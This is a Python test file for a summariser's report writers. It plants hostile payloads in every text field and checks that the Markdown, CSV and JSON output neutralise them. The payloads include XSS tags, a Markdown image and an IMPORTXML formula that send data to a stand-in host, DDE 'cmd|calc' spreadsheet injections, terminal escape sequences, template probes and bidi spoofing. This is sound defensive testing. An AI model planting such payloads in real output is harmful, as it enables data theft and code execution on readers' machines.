"""Hostile text in every field that takes text: no sink obeys any of it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any, NamedTuple

import pytest
from markdown_it import MarkdownIt
from pydantic import ValidationError

from summariser.records import BUILT_IN, ArticleSummary
from summariser.report.as_json import article
from summariser.report.contents import Contents
from summariser.report.writers import render

PAYLOADS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](http://h.example/?q=SECRET) [y](javascript:alert(1)) <http://h.example>",
    "http://h.example/a www.h.example a@h.example",
    '=IMPORTXML("http://h.example","//a")',
    "\t=cmd|'/C calc'!A0",
    "\x00＝1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\x1b[31mred\x1b]8;;http://h.example\x07link\x9b2J\x08",
    "# heading\n\n- list\n\n```\ncode\n```\n> quote\n---\n| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b ` c ``` d ~~~ *e* _f_ **g** <!-- h -->",
    "{{7*7}} {% for %} {0.__class__} ${HOME} %s",
    "[red]rich[/red] \u202egpj.exe \u2028 next",
    "[ref]: http://h.example 'title'",
    "&lt;b&gt; &#x3c;img&#x3e; </td></tr></table>",
    "1. one\n2) two",
)
BENIGN = "plain words"
_TYPES = BUILT_IN
_WORDS = {"text", "text_special", "softbreak"}
ACTIVE = {"html_inline", "html_block", "link_open", "image", "code_block", "fence"}


class Hostile(NamedTuple):
    """One payload, the results it was planted in, the files written from them."""

    payload: str
    contents: Contents
    files: dict[str, bytes]
    plain_shape: list[tuple[str, int]]


@pytest.fixture(scope="module", params=PAYLOADS)
def hostile(request: pytest.FixtureRequest, results: Contents) -> Hostile:
    """Return results with one payload in every text field, and the files written from them."""
    contents = poisoned(results, request.param)
    plain = render(poisoned(results, BENIGN), ["md"])["report.md"]
    return Hostile(request.param, contents, render(contents), _shape(plain))


def test_markdown_shows_and_does_not_obey(hostile: Hostile) -> None:
    """A report with hostile words everywhere has the structure of one with plain words."""
    shape = _shape(hostile.files["report.md"])

    assert shape == hostile.plain_shape
    assert not {kind for kind, _ in shape} & ACTIVE


def test_no_address_becomes_a_link_by_itself(hostile: Hostile) -> None:
    """Readers that turn bare addresses into links find none to turn."""
    report = hostile.files["report.md"].decode("utf-8")

    assert not re.search(r"https?://|www\.|\w@\w", report)


def test_no_control_character_reaches_the_report(hostile: Hostile) -> None:
    """A report shown in a terminal moves no cursor, rings no bell and turns no text around."""
    report = hostile.files["report.md"].decode("utf-8")

    assert not re.search("[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\u202a-\u202e\u2028\u2029]", report)


def test_no_cell_is_a_formula(hostile: Hostile) -> None:
    """No cell of any table starts a formula in a spreadsheet."""
    cells = [
        cell
        for name, data in hostile.files.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        for cell in row
    ]

    assert any(hostile.payload in cell for cell in cells)
    assert [cell for cell in cells if re.match(r"[\s\x00\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)] == []


def test_json_keeps_the_words_exactly(hostile: Hostile) -> None:
    """JSON is for machines: hostile words come back as they were, and change nothing around them."""
    for summary in hostile.contents.summaries:
        data = hostile.files[f"articles/{summary.meta.id}.json"]
        assert ArticleSummary.model_validate_json(data) == summary
        assert json.loads(data)["meta"]["path"] == hostile.payload


def test_the_poison_reaches_every_kind_of_field(results: Contents) -> None:
    """The tests above mean something: hardly a text field is left clean."""
    before = [holder[key] for holder, key in _texts(article(results.summaries[0], _TYPES))]
    after = [holder[key] for holder, key in _texts(article(poisoned(results, BENIGN).summaries[0], _TYPES))]

    left = {word for word, now in zip(before, after, strict=True) if word == now}

    assert all(re.fullmatch(r"[a-z0-9_.:\-]+", word) for word in left)
    assert after.count(BENIGN) > 80


def poisoned(results: Contents, payload: str) -> Contents:
    """Return `results` with `payload` in every field of articles and rows that takes any text."""
    summaries = tuple(_poisoned_summary(summary, payload) for summary in results.summaries)
    ids = {old.meta.id: new.meta.id for old, new in zip(results.summaries, summaries, strict=True)}
    rows = tuple(
        row.model_copy(
            update={"path": payload, "reason": payload, "detail": payload, "notes": (payload,)}
            | ({"document": ids[row.document]} if row.document else {})
        )
        for row in results.rows
    )
    made_with = results.run.made_with.model_copy(update={"profile": payload, "model": payload})
    return results._replace(
        summaries=summaries, rows=rows, run=results.run.model_copy(update={"made_with": made_with})
    )


def _poisoned_summary(summary: ArticleSummary, payload: str) -> ArticleSummary:
    """Return `summary` with `payload` wherever it is still a valid summary; its id stays."""
    data = article(summary, _TYPES)
    for holder, key in list(_texts(data)):
        before = holder[key]
        holder[key] = payload
        try:
            ArticleSummary.model_validate(data)
        except (ValidationError, KeyError):
            holder[key] = before
    data["meta"]["id"] = summary.meta.id
    return ArticleSummary.model_validate(data)


def _texts(value: Any) -> Iterator[tuple[Any, Any]]:  # noqa: ANN401 - any JSON value
    """Yield every place in a JSON value that holds text: its holder and its key or index."""
    places = value.items() if isinstance(value, dict) else enumerate(value)
    for key, item in places:
        if isinstance(item, str):
            yield value, key
        elif isinstance(item, dict | list):
            yield from _texts(item)


def _shape(report: bytes) -> list[tuple[str, int]]:
    """Return what a Markdown reader makes of a report: its blocks and marks, without the words."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    shape: list[tuple[str, int]] = []
    for token in parser.parse(report.decode("utf-8")):
        shape.append((token.type, token.level))
        shape.extend((child.type, child.level) for child in token.children or () if child.type not in _WORDS)
    return shape
